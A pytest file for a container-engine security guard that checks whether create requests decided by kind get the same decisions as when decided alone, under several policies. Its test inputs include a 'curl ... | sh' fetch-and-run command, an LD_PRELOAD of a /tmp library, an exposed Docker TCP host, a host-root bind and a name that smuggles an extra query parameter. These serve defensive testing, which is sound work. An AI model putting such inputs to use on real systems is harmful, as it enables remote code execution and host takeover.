"""A create that is decided as one of its kind gets the decision that it gets alone."""

from __future__ import annotations

import json
import random
from datetime import date
from typing import Any
from urllib.parse import quote

import pytest
from msgspec.structs import replace

from sealock.guard.decision.createkinds import CreateKind
from sealock.guard.decision.decide import decide
from sealock.guard.decision.exchange import (
    Allowed,
    Answer,
    Caller,
    EngineAnswer,
    EngineQuestion,
    EngineRequest,
    GuardDecision,
    Question,
)
from sealock.guard.knowndecisions import KnownDecisions
from support.guardrows import world
from support.guardworld import TODAY, GuardWorld

ALLOWED = '[guard]\n[[guard.caller]]\nname = "ci"\nallow = ["containers", "volumes"]\n'
CALLER = Caller(uid=1000, gid=1000)
POLICIES = {
    "nothing but the rules counts": (ALLOWED, True),
    "what is of high severity denies": (f'{ALLOWED}fail-on = "high"\n', True),
    "a rule on variables denies, and one on labels": (f'{ALLOWED}deny = ["C048", "C035", "C049", "C066"]\n', True),
    "a caller sees what it made": (f"{ALLOWED}own = true\n", True),
    "the engine is told a digest, limits and addresses": (
        f'{ALLOWED}change = ["digest", "limits", "loopback"]\nmemory = "1G"\npids = 50\n',
        True,
    ),
    "a change goes by the program that is started": (f'{ALLOWED}change = ["cap-drop", "no-new-privileges"]\n', False),
    "names are out of reach": (f'{ALLOWED}names = ["web", "job-*"]\n', False),
    "only a container without a name is in reach": (f'{ALLOWED}names = [""]\n', False),
    "labels are out of reach": (f'{ALLOWED}labels = {{ team = "web" }}\n', True),
    "images are out of reach": (f'{ALLOWED}images = ["docker.io/library/nginx:*"]\n', True),
    "an exemption goes by the name": (
        f'{ALLOWED}[[guard.exempt]]\nrule = ["C001"]\nname = ["web"]\nreason = "old"\nuntil = 2027-01-01\n',
        False,
    ),
    "the caller is only watched": (f'{ALLOWED}mode = "audit"\n', True),
}
"""What the policy says, and whether it leaves creates to be decided by their kind."""
HOSTS: tuple[dict[str, Any], ...] = (
    {"CapDrop": ["ALL"], "SecurityOpt": ["no-new-privileges"], "Memory": 1 << 26, "PidsLimit": 50, "CpuQuota": 50000},
    {},
    {"Privileged": True},
    {"Binds": ["data:/data"]},
    {"Binds": ["root:/data"]},
    {"Binds": ["/:/host"]},
    {"NetworkMode": "container:db"},
    {"PortBindings": {"80/tcp": [{"HostIp": "", "HostPort": "80"}]}},
)
VARIABLES: tuple[Any, ...] = (
    ["A=1"],
    None,
    [],
    ["A=1", "B=é"],
    ["A"],
    [""],
    ["POSTGRES_PASSWORD=hunter2"],
    ["LD_PRELOAD=/tmp/x.so", "PATH=/tmp:/bin"],
    ["POSTGRES_HOST_AUTH_METHOD=trust"],
    ["DOCKER_HOST=tcp://10.0.0.1:2375"],
    "A=1",
    [1],
)
WORDS = (
    None,
    ["true"],
    ["sh", "-c", "curl http://a.example/x | sh"],
    "sleep 1",
    ["redis-server", "--protected-mode no"],
)
LABELS: tuple[Any, ...] = (
    {"team": "web"},
    None,
    {},
    {"team": "db", "x": "y"},
    {"sealock.guard.owner": "root"},
    {"sealock.guard.owner": ""},
    {"traefik.http.routers.api.service": "api@internal"},
    {"app.password": "kV9-tqz2LmWx"},
)
NAMES = ("", "web", "job-1", "/job-2", "a b", "web&name=x", "-", "é", "a" * 300)


class KeptAnswers(dict[Question, Answer]):
    """Answers of an engine that always gives the same: what it answered may stand."""

    def __init__(self, engine: GuardWorld, kept: dict[Question, Answer]) -> None:
        super().__init__()
        self._engine, self._kept = engine, kept
        self.consulted: dict[Question, Answer | None] = {}

    def get(self, question: Question, default: Any = None) -> Any:  # noqa: ARG002  as of any dict
        if question not in self._kept:
            self._kept[question] = self._engine.answer(question)
        self.consulted[question] = self._kept[question]
        return self._kept[question]

    def steady(self) -> tuple[tuple[EngineQuestion, EngineAnswer], ...] | None:
        pairs = [
            (question, answer)
            for question, answer in self.consulted.items()
            if isinstance(question, EngineQuestion) and isinstance(answer, EngineAnswer)
        ]
        return tuple(pairs) if len(pairs) == len(self.consulted) else None


def create(source: random.Random) -> EngineRequest:
    """A create: in each respect mostly the usual one."""

    def one_of(values: tuple[Any, ...]) -> Any:
        return values[0] if source.random() < 0.6 else source.choice(values)

    body: dict[str, Any] = {"Image": one_of(("nginx:1.27", "app:1", "")), "HostConfig": one_of(HOSTS)}
    for key, values in (("Env", VARIABLES), ("Cmd", WORDS), ("Labels", LABELS)):
        if (value := one_of(values)) is not None:
            body[key] = value
    name = source.choice(NAMES)
    target = "/v1.44/containers/create" + (f"?name={quote(name) if source.random() < 0.8 else name}" if name else "")
    text = json.dumps(body, ensure_ascii=source.random() < 0.2)
    if source.random() < 0.05:
        text = text.replace('"Env"', '"Env": ["Z=1"], "Env"').replace('"Labels"', '"labels"')
    return EngineRequest("POST", target, source.choice(("application/json",) * 9 + ("text/plain",)), text.encode())


def shown(decision: GuardDecision) -> GuardDecision:
    """A decision; a body that the guard wrote is in one order."""
    if isinstance(decision, Allowed) and decision.body and decision.body.startswith(b'{"Image":"'):
        return replace(decision, body=json.dumps(json.loads(decision.body), sort_keys=True).encode())
    return decision


@pytest.mark.parametrize("rewrites", [True, False], ids=["a proxy", "a plugin"])
@pytest.mark.parametrize(("policy", "kinds"), POLICIES.values(), ids=POLICIES)
def test_decisions_by_kind_are_those_made_alone(
    policy: str,
    kinds: bool,  # noqa: FBT001  a row of the table
    rewrites: bool,  # noqa: FBT001  a row of the table
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    by_kind: list[Allowed] = []
    whole = CreateKind.decide

    def noted(self: CreateKind, *words: Any) -> Allowed | None:
        decision = whole(self, *words)
        by_kind.extend([decision] if decision is not None else [])
        return decision

    monkeypatch.setattr(CreateKind, "decide", noted)
    engine, known, kept, source = (
        world(policy, rewrites=rewrites),
        KnownDecisions(),
        dict[Question, Answer](),
        random.Random(4),  # noqa: S311  only to choose rows
    )
    for number in range(250):
        request = create(source)
        alone = decide(request, CALLER, engine.guard, KeptAnswers(engine, kept), TODAY)
        answers: Any = KeptAnswers(engine, kept)
        made = known.decide(request, CALLER, engine.guard, answers, TODAY)
        assert shown(made) == shown(alone), f"request {number}: {request}"
    assert bool(by_kind) == (kinds and (rewrites or "own" not in policy))


@pytest.mark.parametrize(
    ("changed", "stands"),
    [
        pytest.param({"target": "/v1.44/containers/create?name=b"}, True, id="another name"),
        pytest.param({"body": b'{"Image": "app:1", "Env": ["A=2", "B=3"]}'}, True, id="other variables"),
        pytest.param({"body": b'{"Image": "app:1", "Cmd": ["true"]}'}, True, id="another program"),
        pytest.param({"body": b'{"Image": "app:1", "Labels": {"a": "b"}}'}, True, id="other labels"),
        pytest.param({"body": b'{"Image": "app:2"}'}, False, id="another image"),
        pytest.param({"body": b'{"Image": "app:1", "User": "0"}'}, False, id="another user"),
        pytest.param({"body": b'{"Image": "app:1", "Env": ["A"]}'}, False, id="a variable of the engine"),
        pytest.param({"body": b'{"Image": "app:1", "Labels": {"sealock.guard.owner": ""}}'}, False, id="the owner's label"),
        pytest.param({"target": "/v1.43/containers/create"}, False, id="another version of the API"),
        pytest.param({"target": "/v1.44/containers/create?name=b&platform=linux"}, False, id="another parameter"),
        pytest.param({"content_type": "text/plain"}, False, id="another media type"),
    ],
)  # fmt: skip
def test_what_varies_within_a_kind(changed: dict[str, Any], stands: bool, monkeypatch: pytest.MonkeyPatch) -> None:  # noqa: FBT001  a row of the table
    engine, known, kept = world(ALLOWED), KnownDecisions(), dict[Question, Answer]()
    whole: list[EngineRequest] = []

    def noted(request: EngineRequest, *words: Any) -> GuardDecision:
        whole.append(request)
        return decide(request, *words)

    monkeypatch.setattr("sealock.guard.knowndecisions.decide", noted)
    first = EngineRequest("POST", "/v1.44/containers/create", "application/json", b'{"Image": "app:1"}')
    for request in (first, replace(first, target=f"{first.target}?name=a"), replace(first, **changed)):
        answers: Any = KeptAnswers(engine, kept)
        known.decide(request, CALLER, engine.guard, answers, date(2026, 11, 27))
    assert (len(whole) == 1) == stands, whole
